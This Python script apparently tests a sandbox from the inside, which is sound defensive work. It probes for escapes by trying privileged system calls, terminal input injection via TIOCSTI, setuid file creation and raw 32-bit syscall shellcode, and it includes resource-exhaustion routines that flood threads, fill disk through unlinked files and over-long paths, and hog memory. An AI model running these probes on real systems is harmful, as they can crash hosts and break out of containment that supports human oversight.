"""Attacks that a shell cannot make, for the inside of a box: python3 attacker.py NAME ARGUMENT…

Whatever succeeds says so with one word. It imports the standard library only.
"""

import ctypes
import fcntl
import mmap
import os
import platform
import pty
import socket
import sys
import threading

WON = "BREA" + "CHED"  # so that reading this file is no success
MEGABYTE = 1 << 20
NUMBERS = {  # x86_64, aarch64
    "add_key": (248, 217),
    "bpf": (321, 280),
    "clone": (56, 220),
    "fsopen": (430, 430),
    "init_module": (175, 105),
    "io_uring_setup": (425, 425),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "mount": (165, 40),
    "mount_setattr": (442, 442),
    "open_by_handle_at": (304, 265),
    "perf_event_open": (298, 241),
    "process_vm_readv": (310, 270),
    "ptrace": (101, 117),
    "setns": (308, 268),
    "umount2": (166, 39),
    "userfaultfd": (323, 282),
}


def call(name, *arguments):
    """A system call; anything but "not permitted" and "no such call" means that it was let in."""
    libc = ctypes.CDLL(None, use_errno=True)
    number = NUMBERS[name][platform.machine() == "aarch64"]
    done = libc.syscall(number, *map(int, arguments))
    print(name, WON if done >= 0 or ctypes.get_errno() not in (1, 38) else "refused")


def reach(address):
    """A unix socket; @ at the beginning stands for an abstract one."""
    with socket.socket(socket.AF_UNIX) as door:
        door.connect(address.replace("@", "\0"))
        print(WON)


def datagram(port):
    with socket.socket(type=socket.SOCK_DGRAM) as door:
        door.sendto(b"hit", ("127.0.0.1", int(port)))


def sockets():
    """Families that nobody needs to build software."""
    for family, kind, protocol in ((40, 1, 0), (17, 3, 0), (38, 5, 0), (16, 3, 12), (16, 3, 9)):
        try:
            socket.socket(family, kind, protocol).close()
            print(WON, family, protocol)
        except OSError as error:
            print(family, protocol, error)


def type_into_terminal():
    fcntl.ioctl(pty.openpty()[1], 0x5412, b"x")
    print(WON)


def born_with_set_id():
    os.open("born", os.O_CREAT | os.O_WRONLY, 0o4755)
    print(WON)


def become(uid):
    os.setuid(int(uid))
    print(WON)


def other_calling_convention():
    """getpid as a 32-bit program asks for it: other numbers, which the list does not know."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print(WON, ctypes.CFUNCTYPE(ctypes.c_int)(address)())


def threads():
    for _ in range(2000):
        threading.Thread(target=threading.Event().wait, daemon=True).start()
    print(WON)


def files_without_names():
    """Disk that no walk through the folders finds."""
    for number in range(100):
        file = os.open(f"gone{number}", os.O_CREAT | os.O_WRONLY)
        os.unlink(f"gone{number}")
        for _ in range(16):
            os.write(file, bytes(MEGABYTE))
    print(WON)
    threading.Event().wait()


def folders_too_deep():
    """Disk below a path that is too long to be named."""
    while True:
        for _ in range(30):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        with open("fat", "wb") as file:
            file.write(bytes(8 * MEGABYTE))


def memory_of_a_tree():
    """Each process stays below its own limit."""
    for _ in range(8):
        if not os.fork():
            hold = bytearray(b"x" * (100 * MEGABYTE))
            threading.Event().wait()
            print(len(hold))
    threading.Event().wait()


def shared_memory():
    """Not counted as anybody's data."""
    hold = []
    for _ in range(2000):
        hold.append(mmap.mmap(-1, MEGABYTE))
        hold[-1].write(bytes(MEGABYTE))
    print(WON)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
